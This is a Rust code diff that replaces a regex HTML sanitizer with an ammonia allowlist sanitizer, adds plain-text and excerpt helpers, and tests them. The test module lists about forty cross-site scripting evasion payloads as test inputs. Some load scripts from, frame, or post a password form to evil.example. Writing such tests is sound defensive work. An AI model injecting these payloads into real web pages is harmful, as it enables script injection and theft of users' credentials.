@@ -1,70 +1,207 @@
+use std::collections::{HashMap, HashSet};
+
+use ammonia::{Builder, Url, UrlRelative};
 use regex::Regex;
 use once_cell::sync::Lazy;
 
-// Compile regexes once for better performance
-static SCRIPT_REGEX: Lazy<Regex> = Lazy::new(|| {
-    Regex::new(r"(?i)<script[^>]*>.*?</script>").unwrap()
-});
+/// Markup kept in article bodies; any other element is unwrapped to its
+/// children, so its text survives without the tag
+const ALLOWED_TAGS: &[&str] = &[
+    "a", "abbr", "b", "blockquote", "br", "caption", "cite", "code", "dd", "del", "details",
+    "dfn", "div", "dl", "dt", "em", "figcaption", "figure", "h1", "h2", "h3", "h4", "h5", "h6",
+    "hr", "i", "img", "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "s", "samp", "small",
+    "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead",
+    "time", "tr", "u", "ul",
+];
 
-static STYLE_REGEX: Lazy<Regex> = Lazy::new(|| {
-    Regex::new(r"(?i)<style[^>]*>.*?</style>").unwrap()
-});
+/// Attributes kept per tag; no tag keeps styles, classes, ids or handlers
+const ALLOWED_ATTRIBUTES: &[(&str, &[&str])] = &[
+    ("a", &["href", "title"]),
+    ("abbr", &["title"]),
+    ("blockquote", &["cite"]),
+    ("img", &["src", "alt", "title", "width", "height"]),
+    ("ol", &["start", "reversed"]),
+    ("q", &["cite"]),
+    ("td", &["colspan", "rowspan"]),
+    ("th", &["colspan", "rowspan", "scope"]),
+    ("time", &["datetime"]),
+];
 
-static IFRAME_REGEX: Lazy<Regex> = Lazy::new(|| {
-    Regex::new(r"(?i)<iframe[^>]*>.*?</iframe>").unwrap()
-});
+/// Schemes links and images may point at; anything else drops the attribute
+const ALLOWED_SCHEMES: &[&str] = &["http", "https", "mailto"];
+
+/// Elements removed together with everything inside them
+const REMOVED_WITH_CONTENT: &[&str] = &["script", "style", "template", "noscript"];
 
-static EVENT_REGEX: Lazy<Regex> = Lazy::new(|| {
-    Regex::new(r#"(?i)\s+on\w+\s*=\s*["'][^"']*["']"#).unwrap()
+/// Elements that end a line of plain text
+const BLOCK_TAGS: &[&str] = &[
+    "p", "div", "h1", "h2", "h3", "h4", "h5", "h6", "li", "ul", "ol", "dl", "dt", "dd",
+    "blockquote", "pre", "table", "tr", "figure", "figcaption", "section", "article", "header",
+    "footer", "aside", "details", "summary", "hr", "br",
+];
+
+static LINE_BREAK_REGEX: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(r"<br\s*/?>").unwrap()
 });
 
-static JS_PROTOCOL_REGEX: Lazy<Regex> = Lazy::new(|| {
-    Regex::new(r"(?i)javascript:").unwrap()
+static BLOCK_REGEX: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(r"</?[a-z0-9]+\s*/?>").unwrap()
 });
 
-static HTML_REGEX: Lazy<Regex> = Lazy::new(|| {
-    Regex::new(r"<[^>]+>").unwrap()
+static BLANK_LINES_REGEX: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(r"\n\s*\n\s*").unwrap()
 });
 
-/// Sanitize HTML content by removing potentially dangerous tags and scripts
-pub fn sanitize_html(content: &str) -> String {
-    let mut sanitized = content.to_string();
-    
-    // Remove script tags and their content
-    sanitized = SCRIPT_REGEX.replace_all(&sanitized, "").to_string();
-    
-    // Remove style tags and their content
-    sanitized = STYLE_REGEX.replace_all(&sanitized, "").to_string();
-    
-    // Remove iframe tags
-    sanitized = IFRAME_REGEX.replace_all(&sanitized, "").to_string();
-    
-    // Remove event handlers (onclick, onerror, etc.)
-    sanitized = EVENT_REGEX.replace_all(&sanitized, "").to_string();
-    
-    // Remove javascript: protocol
-    sanitized = JS_PROTOCOL_REGEX.replace_all(&sanitized, "").to_string();
-    
-    // Strip remaining HTML tags for plain text
-    sanitized = HTML_REGEX.replace_all(&sanitized, "").to_string();
-    
-    // Decode HTML entities
-    sanitized = html_escape::decode_html_entities(&sanitized).to_string();
-    
-    // Trim and limit length
-    sanitized = sanitized.trim().chars().take(500).collect();
-    
-    sanitized
+/// Longest excerpt kept for article lists, in characters
+const EXCERPT_LENGTH: usize = 500;
+
+/// Sanitize HTML content for rendering: the input is parsed as HTML5 and
+/// re-serialized with only allowlisted tags, attributes and URL schemes.
+/// Relative links and images are resolved against `base_url` when it is a
+/// valid URL and dropped otherwise
+pub fn sanitize_html(content: &str, base_url: &str) -> String {
+    let tag_attributes: HashMap<&str, HashSet<&str>> = ALLOWED_ATTRIBUTES
+        .iter()
+        .map(|(tag, attributes)| (*tag, attributes.iter().copied().collect()))
+        .collect();
+    let url_relative = match Url::parse(base_url) {
+        Ok(base) => UrlRelative::RewriteWithBase(base),
+        Err(_) => UrlRelative::Deny,
+    };
+
+    Builder::empty()
+        .tags(ALLOWED_TAGS.iter().copied().collect())
+        .tag_attributes(tag_attributes)
+        .url_schemes(ALLOWED_SCHEMES.iter().copied().collect())
+        .url_relative(url_relative)
+        .clean_content_tags(REMOVED_WITH_CONTENT.iter().copied().collect())
+        .link_rel(Some("noopener noreferrer"))
+        .strip_comments(true)
+        .clean(content)
+        .to_string()
+        .trim()
+        .to_string()
+}
+
+/// Readable plain text of HTML content, with paragraphs separated by blank
+/// lines and line breaks kept
+pub fn html_to_text(content: &str) -> String {
+    // Parsing with only block tags allowed leaves well-formed markup without
+    // attributes, so the tags left can be told apart from text by pattern
+    let blocks = Builder::empty()
+        .tags(BLOCK_TAGS.iter().copied().collect())
+        .clean_content_tags(REMOVED_WITH_CONTENT.iter().copied().collect())
+        .strip_comments(true)
+        .clean(content)
+        .to_string();
+
+    // Line breaks in the source are only whitespace; markup decides where lines end
+    let mut text = blocks.replace(['\r', '\n', '\t'], " ");
+    text = LINE_BREAK_REGEX.replace_all(&text, "\n").to_string();
+    text = BLOCK_REGEX.replace_all(&text, "\n\n").to_string();
+    text = html_escape::decode_html_entities(&text).to_string();
+
+    let lines: Vec<String> = text
+        .split('\n')
+        .map(|line| line.split_whitespace().collect::<Vec<_>>().join(" "))
+        .collect();
+    BLANK_LINES_REGEX.replace_all(lines.join("\n").trim(), "\n\n").to_string()
+}
+
+/// Short plain-text preview of HTML content for article lists
+pub fn excerpt(content: &str) -> String {
+    let text = html_to_text(content);
+    let words: Vec<&str> = text.split_whitespace().collect();
+    words.join(" ").chars().take(EXCERPT_LENGTH).collect()
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
+    const BASE: &str = "https://example.com/posts/1";
+
+    /// Payloads collected from XSS filter evasion cheat sheets
+    const XSS_PAYLOADS: &[&str] = &[
+        "<script>alert(1)</script>",
+        "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
+        "<scr<script>ipt>alert(1)</scr</script>ipt>",
+        "<script\n>alert(1)</script\n>",
+        "<img src=x onerror=alert(1)>",
+        "<img src=\"x\" onerror = 'alert(1)'>",
+        "<IMG SRC=\"javascript:alert(1);\">",
+        "<IMG SRC=JaVaScRiPt:alert(1)>",
+        "<img src=\"jav&#x09;ascript:alert(1)\">",
+        "<img src=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">",
+        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
+        "<img \"\"\"><script>alert(1)</script>\">",
+        "<img/src=x/onerror=alert(1)>",
+        "<a href=\"javascript:alert(1)\">click</a>",
+        "<a href=\" javascript:alert(1)\">click</a>",
+        "<a href=\"java\0script:alert(1)\">click</a>",
+        "<a href=\"vbscript:msgbox(1)\">click</a>",
+        "<a href=\"data:text/html,<script>alert(1)</script>\">click</a>",
+        "<a href=\"https://ok.example\" onmouseover=\"alert(1)\" style=\"position:fixed\">x</a>",
+        "<a href=\"https://ok.example\" target=\"_self\" formaction=\"javascript:alert(1)\">x</a>",
+        "<svg onload=alert(1)>",
+        "<svg><script>alert(1)</script></svg>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+        "<iframe src=\"https://evil.example\"></iframe>",
+        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+        "<object data=\"javascript:alert(1)\"></object>",
+        "<embed src=\"https://evil.example/x.swf\">",
+        "<body onload=alert(1)>",
+        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+        "<base href=\"https://evil.example/\">",
+        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
+        "<style>@import 'https://evil.example/x.css';</style>",
+        "<div style=\"background:url(javascript:alert(1))\">x</div>",
+        "<div style=\"width: expression(alert(1))\">x</div>",
+        "<form action=\"https://evil.example\"><input name=\"password\"><button>Go</button></form>",
+        "<details open ontoggle=alert(1)>",
+        "<video><source onerror=\"alert(1)\"></video>",
+        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
+    ];
+
+    /// Every `<` left in sanitized output starts a tag, since text is escaped
+    static TAG_REGEX: Lazy<Regex> = Lazy::new(|| {
+        Regex::new(r"<(/?)([a-z0-9]+)([^>]*)>").unwrap()
+    });
+
+    static ATTRIBUTE_REGEX: Lazy<Regex> = Lazy::new(|| {
+        Regex::new(r#"([a-z-]+)="([^"]*)""#).unwrap()
+    });
+
+    fn assert_safe(payload: &str, sanitized: &str) {
+        for tag in TAG_REGEX.captures_iter(sanitized) {
+            let name = &tag[2];
+            assert!(ALLOWED_TAGS.contains(&name), "{payload:?} kept <{name}>: {sanitized}");
+
+            for attribute in ATTRIBUTE_REGEX.captures_iter(&tag[3]) {
+                let (key, value) = (&attribute[1], &attribute[2]);
+                let allowed = key == "rel"
+                    || ALLOWED_ATTRIBUTES
+                        .iter()
+                        .any(|(tag, attributes)| *tag == name && attributes.contains(&key));
+                assert!(allowed, "{payload:?} kept {key} on <{name}>: {sanitized}");
+
+                if matches!(key, "href" | "src" | "cite") {
+                    assert!(
+                        ["http://", "https://", "mailto:"].iter().any(|s| value.starts_with(s)),
+                        "{payload:?} kept {key}={value:?}: {sanitized}"
+                    );
+                }
+            }
+        }
+        assert!(!sanitized.contains("alert(1)</"), "{payload:?} kept a script body: {sanitized}");
+    }
+
     #[test]
     fn test_sanitize_removes_scripts() {
         let input = "Hello <script>alert('XSS')</script> World";
-        let result = sanitize_html(input);
+        let result = sanitize_html(input, BASE);
         assert!(!result.contains("script"));
         assert!(!result.contains("XSS"));
     }
@@ -72,7 +209,57 @@ mod tests {
     #[test]
     fn test_sanitize_removes_event_handlers() {
         let input = r#"<div onclick="alert('XSS')">Click me</div>"#;
-        let result = sanitize_html(input);
+        let result = sanitize_html(input, BASE);
         assert!(!result.contains("onclick"));
+        assert!(!sanitize_html("<img src=x onerror=alert(1)>", BASE).contains("onerror"));
+    }
+
+    #[test]
+    fn test_sanitize_neutralizes_known_xss_payloads() {
+        for payload in XSS_PAYLOADS {
+            let sanitized = sanitize_html(payload, BASE);
+            assert_safe(payload, &sanitized);
+
+            // Sanitized output is stable, so it can't turn into markup on a second parse
+            assert_eq!(sanitize_html(&sanitized, BASE), sanitized, "{payload:?}");
+
+            let text = html_to_text(payload);
+            assert!(!text.contains('<'), "{payload:?} left markup in text: {text}");
+        }
+    }
+
+    #[test]
+    fn test_sanitize_keeps_structure_and_resolves_links() {
+        let input = concat!(
+            "<h2 class=\"title\">Heading</h2><p>Some <em>emphasis</em> and <a href=\"/about\" target=\"_blank\">a link</a>",
+            "<custom-tag>kept text</custom-tag></p><ul><li>one</li></ul>",
+            "<img src=\"img/a.png\" alt=\"A\" style=\"border:0\">",
+            "<table><tr><td colspan=\"2\">cell</td></tr></table>",
+        );
+        assert_eq!(
+            sanitize_html(input, BASE),
+            concat!(
+                "<h2>Heading</h2><p>Some <em>emphasis</em> and ",
+                "<a href=\"https://example.com/about\" rel=\"noopener noreferrer\">a link</a>",
+                "kept text</p><ul><li>one</li></ul>",
+                "<img src=\"https://example.com/posts/img/a.png\" alt=\"A\">",
+                "<table><tbody><tr><td colspan=\"2\">cell</td></tr></tbody></table>",
+            )
+        );
+
+        // Without a base to resolve against, relative URLs are dropped
+        assert_eq!(
+            sanitize_html("<a href=\"/about\">About</a>", "No link"),
+            "<a rel=\"noopener noreferrer\">About</a>"
+        );
+    }
+
+    #[test]
+    fn test_text_keeps_paragraphs_and_excerpt_is_short() {
+        let input = "<h1>Title</h1>\n<p>First   line<br>second &amp; last</p><p>Next</p><script>x()</script>";
+        assert_eq!(html_to_text(input), "Title\n\nFirst line\nsecond & last\n\nNext");
+        assert_eq!(excerpt(input), "Title First line second & last Next");
+        assert_eq!(excerpt("a &lt;b&gt; c <b>d</b>"), "a <b> c d");
+        assert_eq!(excerpt(&"word ".repeat(200)).chars().count(), EXCERPT_LENGTH);
     }
 }